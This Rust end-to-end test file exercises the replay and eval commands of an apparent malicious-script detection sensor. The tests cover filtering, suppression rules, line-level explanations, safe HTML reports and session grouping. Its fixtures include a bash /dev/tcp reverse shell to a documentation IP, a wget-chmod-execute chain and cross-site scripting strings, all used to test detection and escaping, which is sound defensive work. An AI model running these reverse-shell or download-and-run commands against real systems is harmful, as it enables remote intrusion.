//! `sensor replay` and `sensor eval` on files.

#![allow(clippy::unwrap_used, reason = "helpers of tests")]

use std::{fs, path::PathBuf, process::Command};

use e2e::{daemon::bin, outcome::sha256};
use serde_json::{Value, json};
use tempfile::TempDir;

const ATTACK: &str = "bash -i >& /dev/tcp/192.0.2.7/4444 0>&1";

fn capture(number: u32, origin: &str, path: Option<&str>, content: &str) -> Value {
    json!({
        "id": { "pid": number, "exec_ns": 1, "ordinal": 0 }, "origin": origin, "content": content, "size": content.len(),
        "flags": {}, "path": path, "interpreter": { "kind": "bash", "path": "/bin/bash", "size": 1, "sha256": null },
        "args": ["bash", "-c", content], "ns_pid": number, "ppid": 1, "uid": 0, "gid": 0, "cgroup": 1, "start_ns": 1,
        "time_unix_ns": 1_700_000_000_000_000_000u64 + u64::from(number),
    })
}

fn records(dir: &TempDir, captures: &[Value]) -> PathBuf {
    let path = dir.path().join("records.jsonl");
    let lines: Vec<String> = captures.iter().map(Value::to_string).collect();
    fs::write(&path, lines.join("\n")).unwrap();
    path
}

fn sensor(args: &[&str], file: &PathBuf) -> (String, String, Option<i32>) {
    let output = Command::new(bin().join("sensor"))
        .args(args)
        .arg(file)
        .env("SCRIPTWATCH_SENSOR_LOG", "error")
        .output()
        .unwrap();
    let text = |bytes: &[u8]| String::from_utf8_lossy(bytes).into_owned();
    (text(&output.stdout), text(&output.stderr), output.status.code())
}

fn rows(args: &[&str], file: &PathBuf) -> Vec<String> {
    let (out, errors, code) = sensor(args, file);
    assert_eq!(code, Some(0), "{errors}");
    out.lines().skip(1).map(str::to_owned).collect()
}

#[test]
fn filters_choose_what_is_shown() {
    let dir = tempfile::tempdir().unwrap();
    let file = records(
        &dir,
        &[
            capture(1, "file", Some("/opt/app/run.sh"), "echo harmless\n"),
            capture(2, "file", Some("/tmp/x.sh"), &format!("# one\n{ATTACK}\n")),
            capture(3, "command", None, ATTACK),
        ],
    );
    let shown = |args: &[&str]| rows(&[&["replay"], args].concat(), &file).len();
    assert_eq!(shown(&[]), 3);
    assert_eq!(shown(&["--verdict", "malicious"]), 2);
    assert_eq!(shown(&["--verdict", "benign"]), 1);
    assert_eq!(shown(&["--origin", "command"]), 1);
    assert_eq!(shown(&["--origin", "command", "--origin", "file"]), 3);
    assert_eq!(shown(&["--path", "/opt/**"]), 1);
    assert_eq!(shown(&["--technique", "T1059"]), 2);
    assert_eq!(shown(&["--technique", "T105"]), 0, "not a part of a number");
    assert_eq!(shown(&["--sha256", &sha256(ATTACK.as_bytes())[..10]]), 1);
    assert_eq!(shown(&["--contains", "harmless"]), 1);
    assert_eq!(shown(&["--min-score", "0.5"]), 2);
    let (_, errors, code) = sensor(&["replay", "--sha256", "xyz"], &file);
    assert_eq!(code, Some(2));
    assert!(errors.contains("hex digits"), "{errors}");
    // The same model twice disagrees nowhere.
    let model = bin().join("script.onnx");
    assert_eq!(shown(&["--compare-model", model.to_str().unwrap(), "--only-changed"]), 0);
}

#[test]
fn what_a_rule_suppresses_is_counted_and_makes_no_finding() {
    let dir = tempfile::tempdir().unwrap();
    let file = records(
        &dir,
        &[
            capture(1, "command", None, ATTACK),
            capture(2, "file", Some("/opt/ci/x.sh"), &format!(": x\n{ATTACK}\n")),
        ],
    );
    let rules = dir.path().join("rules.toml");
    fs::write(&rules, "[[suppress]]\npath = \"/opt/ci/**\"\nreason = \"build agents\"\n").unwrap();
    let with =
        |more: &[&str]| rows(&[&["replay", "--suppressions", rules.to_str().unwrap()], more].concat(), &file);
    let table = with(&[]);
    assert!(table[0].starts_with("malicious ") && table[1].starts_with("suppressed "), "{table:#?}");
    let (out, errors, _) =
        sensor(&["replay", "--format", "json", "--suppressions", rules.to_str().unwrap()], &file);
    assert_eq!(out.lines().count(), 1);
    assert!(errors.contains("2 malicious, 1 of them suppressed"), "{errors}");
    fs::write(&rules, "[[suppress]]\nreason = \"all\"\n").unwrap();
    let (_, errors, code) = sensor(&["replay", "--suppressions", rules.to_str().unwrap()], &file);
    assert_eq!(code, Some(1));
    assert!(errors.contains("rule 1") && errors.contains("rules.toml"), "{errors}");
}

#[test]
fn a_verdict_is_explained_by_line() {
    let dir = tempfile::tempdir().unwrap();
    let filler = "echo another quiet line\n".repeat(120);
    let file = records(&dir, &[capture(1, "file", Some("/tmp/x"), &format!("{filler}{ATTACK}\n{filler}"))]);
    let rows = rows(&["replay", "--explain"], &file);
    let marked: Vec<&String> = rows.iter().filter(|row| row.starts_with("  >")).collect();
    assert!(marked.iter().any(|row| row.contains("  121  ") && row.contains("/dev/tcp")), "{rows:#?}");
    assert!(rows.len() < 40, "what is not near is left out: {} lines", rows.len());
}

#[test]
fn the_page_runs_nothing_of_what_it_shows() {
    let dir = tempfile::tempdir().unwrap();
    let hostile = format!("# <script>alert(1)</script> \u{202e}\u{1b}[2J\n{ATTACK}\n");
    let path = "/tmp/<img src=x onerror=alert(2)>\"'.sh";
    let file = records(&dir, &[capture(1, "file", Some(path), &hostile)]);
    let page = dir.path().join("report.html");
    rows(&["replay", "--html", page.to_str().unwrap()], &file);
    let html = fs::read_to_string(&page).unwrap();
    assert!(html.contains("default-src 'none'"));
    assert!(
        html.contains("&lt;script&gt;alert(1)") && html.contains("&lt;img src&#x3D;x")
            || html.contains("&lt;img src=x")
    );
    assert!(
        !html.contains("<script")
            && !html.contains("<img")
            && !html.contains('\u{1b}')
            && !html.contains('\u{202e}')
    );
    assert!(html.contains("class=\"much\"") && html.ends_with("</html>\n"));
}

#[test]
fn many_captures_come_out_in_order() {
    let dir = tempfile::tempdir().unwrap();
    let captures: Vec<Value> =
        (0..3000).map(|i| capture(i, "file", Some(&format!("/s/{i}")), &format!(": number {i}\n"))).collect();
    let file = records(&dir, &captures);
    let rows = rows(&["replay"], &file);
    assert_eq!(rows.len(), 3000);
    for (i, row) in rows.iter().enumerate() {
        assert!(row.ends_with(&format!(" /s/{i}")), "{row}");
    }
}

#[test]
fn an_evaluation_counts_found_and_false() {
    let dir = tempfile::tempdir().unwrap();
    let line = |label: &str, content: &str| json!({ "label": label, "content": content, "source": "own" });
    let mut lines: Vec<Value> = (0..50).map(|i| line("benign", &format!("echo hello {i}"))).collect();
    lines.push(line("malicious", ATTACK));
    lines.push(line("malicious", "echo mislabelled"));
    let file = records(&dir, &lines);
    let model = bin().join("script.onnx");
    let (out, errors, code) =
        sensor(&["eval", "--format", "json", "--baseline", model.to_str().unwrap()], &file);
    assert_eq!(code, Some(0), "{errors}");
    let result: Value = serde_json::from_str(&out).unwrap();
    let first = &result["models"][0];
    assert_eq!((&first["malicious"], &first["benign"]), (&json!(2), &json!(50)));
    assert_eq!((&first["found"], &first["false_alarms"]), (&json!(1), &json!(0)));
    assert_eq!(result["models"][0]["at"], result["models"][1]["at"]);
    assert_eq!(result["flips"], json!([]));
}

#[test]
fn commands_of_one_session_are_replayed_together() {
    let dir = tempfile::tempdir().unwrap();
    let steps = [
        "wget -q -O /tmp/.scriptwatch/a http://127.0.0.1:9/a",
        "chmod 777 /tmp/.scriptwatch/a",
        "/tmp/.scriptwatch/a",
    ];
    let mut captures: Vec<Value> =
        (10..).zip(steps).map(|(number, step)| capture(number, "command", None, step)).collect();
    let file = records(&dir, &captures);
    let shown = rows(&["replay", "--explain"], &file);
    let session = shown.iter().position(|row| row.contains("  session  ")).expect("a session");
    assert!(shown[session].starts_with("malicious"), "{shown:#?}");
    assert!(shown[..session].iter().all(|row| row.starts_with("benign")), "{shown:#?}");
    assert!(
        shown[session..].iter().any(|row| row.trim_start().starts_with("line ") && row.contains("  it "))
    );
    let (findings, told, _) = sensor(&["replay", "--format", "json"], &file);
    let finding: Value = serde_json::from_str(findings.trim()).unwrap();
    assert_eq!(finding["sourceProperties"]["Session_Commands"].as_array().unwrap().len(), 3);
    assert!(told.contains(" 1 malicious sessions"), "{told}");
    // In containers of their own they have nothing to do with each other.
    for (cgroup, capture) in (5..).zip(&mut captures) {
        capture["cgroup"] = Value::from(cgroup);
    }
    let file = records(&dir, &captures);
    assert_eq!(rows(&["replay"], &file).len(), 3);
}
